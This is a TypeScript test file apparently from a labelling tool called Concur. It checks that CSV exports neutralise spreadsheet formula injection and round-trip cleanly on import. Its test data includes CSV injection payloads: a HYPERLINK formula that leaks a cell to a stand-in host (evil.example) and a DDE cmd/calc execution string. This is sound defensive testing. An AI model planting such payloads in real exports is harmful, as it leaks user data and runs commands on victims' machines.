/**
 * CSV exports never hand a spreadsheet a formula (OWASP CSV injection: a cell starting with
 * =, +, -, @, tab or CR gets a leading '), and Concur's CSV imports remove exactly that quote
 * again, so export → import gives back identical text.
 */
import { afterEach, describe, expect, it } from 'vitest';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { buildTestApp } from '../support/app.ts';
import { protectCell, unprotectCell } from '../../server/services/csv.ts';
import { fromSheet, importConverted } from '../../server/services/importers/index.ts';
import { labelsCsv } from '../../server/services/exports.ts';
import { tempWorkspace } from '../support/workspace.ts';
import { runMain, seed } from '../support/seed.ts';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  '- bullet one\n- bullet two',
  '+1 agreed',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\tindented by a tab',
  '\rcarriage return first',
  "'=already quoted by someone",
  "''-two quotes then a dash",
  "'plain apostrophe",
  'multi-line\n"quoted", with, commas\nand more',
  '-',
  '',
  'ordinary text',
];
/** Raw cells as the file holds them (no Concur cast). */
const rawRows = (csv: string) => parseCsv(csv, { columns: true }) as Array<Record<string, string>>;
const formulaLike = (s: string) => /^[=+\-@\t\r]/.test(s);

let t: ReturnType<typeof tempWorkspace> | undefined;
afterEach(() => { t?.cleanup(); t = undefined; });

function setup() {
  t = tempWorkspace();
  const items = HOSTILE.map((text, i) => ({ id: `item-${i}`, input: HOSTILE[(i + 1) % HOSTILE.length] || 'q', output: text, verdict: (i % 2 ? 'pass' : 'fail') as 'pass' | 'fail', critique: text }));
  return { ...seed(t.ws, items), items };
}

describe('CSV injection protection', () => {
  it('protectCell / unprotectCell round-trip every string and protect every formula start', () => {
    for (const s of [...HOSTILE, "'", "''", "'''=", '==', ' =x', "'\t"]) {
      expect(unprotectCell(protectCell(s))).toBe(s);
      expect(formulaLike(protectCell(s))).toBe(false);
    }
    expect(protectCell('=1+1')).toBe("'=1+1");
    expect(protectCell("'=1")).toBe("''=1");
    expect(protectCell("'ok")).toBe("'ok");
    expect(unprotectCell("'ok")).toBe("'ok");
  });

  it('GET labels.csv prefixes formula-like cells and re-imports to identical critiques', async () => {
    const { criterion, items } = setup();
    const app = await buildTestApp({ workspace: t!.ws, webRoot: '/nonexistent' });
    try {
      const r = await app.inject({ method: 'GET', url: `/api/criteria/${criterion.id}/export/labels.csv` });
      expect(r.statusCode).toBe(200);
      const rows = rawRows(r.body);
      expect(rows).toHaveLength(HOSTILE.length);
      for (const row of rows) for (const cell of Object.values(row)) expect(formulaLike(cell), JSON.stringify(cell)).toBe(false);
      expect(rows.find((x) => x.id === 'item-0')!.critique).toBe(`'${HOSTILE[0]}`);
      expect(rows.find((x) => x.id === 'item-1')!.critique).toBe(`'${HOSTILE[1]}`);
      expect(rows.find((x) => x.id === 'item-8')!.critique).toBe(HOSTILE[8]); // not formula-like: unchanged

      // re-import into a second criterion: the critiques come back exactly
      const second = t!.ws.addCriterion(criterion.datasetId, { name: 'copy', principalAnnotator: 'expert' });
      const imp = await app.inject({ method: 'POST', url: `/api/criteria/${second.id}/labels/import`, payload: { filename: 'labels.csv', content: r.body } });
      expect(imp.statusCode, imp.body).toBe(200);
      expect(imp.json().added).toBe(HOSTILE.length);
      const copied = t!.ws.repos.labels.currentByItem(second.id, 'expert');
      const byId = new Map(t!.ws.repos.items.all(criterion.datasetId).map((i) => [i.externalId, i]));
      for (const it of items) expect(copied.get(byId.get(it.id)!.id)?.critique).toBe(it.critique);
    } finally { await app.close(); }
  });

  it('the export imports back as a review sheet with identical inputs, outputs and critiques', () => {
    const { criterion, items } = setup();
    const csv = labelsCsv(t!.ws, criterion);
    const other = tempWorkspace();
    try {
      const res = importConverted(other.ws, fromSheet(csv, 'labels.csv'), { dataset: 'copy', criterion: 'c' });
      const copy = new Map(other.ws.repos.items.all(res.dataset.id).map((i) => [i.externalId, i]));
      const labels = other.ws.repos.labels.currentByItem(res.criterion!.id, res.criterion!.principalAnnotator);
      for (const it of items) {
        const item = copy.get(it.id)!;
        expect({ input: item.input, output: item.output }).toEqual({ input: it.input, output: it.output });
        expect(labels.get(item.id)?.critique).toBe(it.critique);
      }
    } finally { other.cleanup(); }
  });

  it('concur labels export --format csv writes protected cells that labels import reads back exactly', async () => {
    const { items } = setup();
    const out = join(t!.dir, 'labels.csv');
    const exp = await runMain(['labels', 'export', '--dataset', 'ds', '--criterion', 'correct', '--format', 'csv', '--out', out, '--db', t!.path]);
    expect(exp.code, exp.stderr + exp.error?.message).toBe(0);
    const text = readFileSync(out, 'utf8');
    for (const row of rawRows(text)) for (const cell of Object.values(row)) expect(formulaLike(cell), JSON.stringify(cell)).toBe(false);
    const c = t!.ws.addCriterion('ds', { name: 'copy', principalAnnotator: 'expert' });
    const imp = await runMain(['labels', 'import', out, '--dataset', 'ds', '--criterion', 'copy', '--db', t!.path]);
    expect(imp.code, imp.stderr + imp.error?.message).toBe(0);
    const copied = t!.ws.repos.labels.currentByItem(c.id, 'expert');
    const byId = new Map(t!.ws.repos.items.all(c.datasetId).map((i) => [i.externalId, i]));
    for (const it of items) expect(copied.get(byId.get(it.id)!.id)?.critique).toBe(it.critique);
  });
});

